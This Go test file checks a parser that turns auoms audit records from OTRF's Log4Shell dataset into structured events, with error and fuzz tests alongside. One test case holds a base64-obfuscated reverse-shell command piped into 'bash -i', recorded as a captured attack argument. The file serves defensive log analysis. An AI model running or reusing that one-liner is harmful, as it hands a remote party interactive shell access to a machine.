package auditd

import (
	"os"
	"reflect"
	"strings"
	"testing"
	"time"
)

func auomsRecords(t *testing.T) []string {
	t.Helper()
	b, err := os.ReadFile("testdata/auoms-log4shell.txt")
	if err != nil {
		t.Fatal(err)
	}
	return strings.Split(strings.TrimSpace(string(b)), "\n")
}

// Real auoms records of OTRF's Log4Shell dataset map as the kernel's own
// records of the same events would: the failed exec as java's (its PATH is
// the name tried), the successful ones with the new image and arguments.
func TestMapAUOMS(t *testing.T) {
	recs := auomsRecords(t)
	for _, tc := range []struct {
		rec     string
		outcome string
		exe     string
		args    []string
		when    time.Time
	}{
		{recs[0], "failure", "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java", nil, time.Date(2022, 5, 11, 18, 10, 21, 986e6, time.UTC)},
		{recs[1], "success", "/bin/bash", []string{"bash", "-c", "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"}, time.Date(2022, 5, 11, 18, 10, 21, 990e6, time.UTC)},
		{recs[2], "success", "/usr/bin/whoami", []string{"whoami"}, time.Date(2022, 5, 11, 18, 10, 33, 146e6, time.UTC)},
	} {
		doc, err := MapAUOMS(tc.rec)
		if err != nil {
			t.Fatalf("%v\n%s", err, tc.rec)
		}
		args, _ := get(doc, "process", "args").([]string)
		if get(doc, "event", "outcome") != tc.outcome || get(doc, "process", "executable") != tc.exe || !reflect.DeepEqual(args, tc.args) || get(doc, "@timestamp") != tc.when {
			t.Errorf("outcome %v, executable %v, args %q, time %v; want %s %s %q %v", get(doc, "event", "outcome"), get(doc, "process", "executable"), args, get(doc, "@timestamp"), tc.outcome, tc.exe, tc.args, tc.when)
		}
		if get(doc, "user", "name") != "tomcat" || get(doc, "user", "id") != "1001" || get(doc, "host", "name") != "UBUNTU5" || get(doc, "event", "original") != tc.rec {
			t.Errorf("user %v (%v), host %v, event.original %.60v", get(doc, "user", "name"), get(doc, "user", "id"), get(doc, "host", "name"), get(doc, "event", "original"))
		}
		if get(doc, "process", "working_directory") != "/" || get(doc, "event", "category") == nil {
			t.Errorf("working directory %v, category %v", get(doc, "process", "working_directory"), get(doc, "event", "category"))
		}
	}
	doc, _ := MapAUOMS(recs[1])
	if get(doc, "process", "parent", "pid") != int64(1340) {
		t.Errorf("parent pid %#v, want 1340", get(doc, "process", "parent", "pid"))
	}
}

func TestSplitAUOMSCmdline(t *testing.T) {
	for in, want := range map[string][]string{
		`bash -c "{echo,x}|{base64,-d}"`: {"bash", "-c", "{echo,x}|{base64,-d}"},
		`whoami`:                         {"whoami"},
		`sh -c "ls -la /tmp"`:            {"sh", "-c", "ls -la /tmp"},
		`echo ""`:                        {"echo", ""},
		`a  b`:                           {"a", "b"},
	} {
		if got := splitAUOMSCmdline(in); !reflect.DeepEqual(got, want) {
			t.Errorf("splitAUOMSCmdline(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestMapAUOMSErrors(t *testing.T) {
	for _, tc := range []struct{ rec, want string }{
		{`type=AUOMS_SYSCALL audit(1652292621.986:1): pid=1 exe="/bin/x"`, "auoms AUOMS_SYSCALL records are not read (only AUOMS_EXECVE"},
		{`AUOMS_EXECVE pid=1`, "does not start with type="},
		{`type=AUOMS_EXECVE pid=1 exe="/bin/x"`, "without audit(time:serial): header"},
		{`type=AUOMS_EXECVE audit(1652292621.986:1): success=yes comm="x"`, "without pid or exe"},
		{`type=AUOMS_EXECVE audit(yesterday): pid=1 exe="/bin/x" success=yes cmdline="x"`, "audit("},
	} {
		doc, err := MapAUOMS(tc.rec)
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: err = %v, want %q", tc.rec, err, tc.want)
			continue
		}
		if get(doc, "error", "message") == nil || get(doc, "event", "original") == nil {
			t.Errorf("%s: error document %v", tc.rec, doc)
		}
	}
}

func FuzzMapAUOMS(f *testing.F) {
	b, err := os.ReadFile("testdata/auoms-log4shell.txt")
	if err != nil {
		f.Fatal(err)
	}
	for _, rec := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		f.Add(rec)
	}
	f.Fuzz(func(t *testing.T, rec string) {
		doc, err := MapAUOMS(rec)
		if doc == nil {
			t.Fatalf("no document for %q (err %v)", rec, err)
		}
		if err == nil && (get(doc, "@timestamp") == nil || get(doc, "process", "pid") == nil) {
			t.Fatalf("%q mapped without a time or a pid: %v", rec, doc)
		}
	})
}

// A SECCOMP record's signal is named by Linux's numbers, whatever system
// hunt runs on (third_party/go-libaudit names them from a table so that it
// builds for Windows): 31 is SIGSYS on Linux, SIGUSR2 on macOS.
func TestSeccompSignalName(t *testing.T) {
	doc, err := Map([]string{`type=SECCOMP msg=audit(1623379200.123:458): auid=4294967295 uid=33 gid=33 ses=4294967295 pid=5678 comm="php-fpm8.2" exe="/usr/sbin/php-fpm8.2" sig=31 arch=c000003e syscall=59 compat=0 ip=0x7f code=0x0`})
	if err != nil {
		t.Fatal(err)
	}
	if got := get(doc, "auditd", "data", "sig"); got != "SIGSYS" {
		t.Errorf("sig %v, want SIGSYS", got)
	}
}
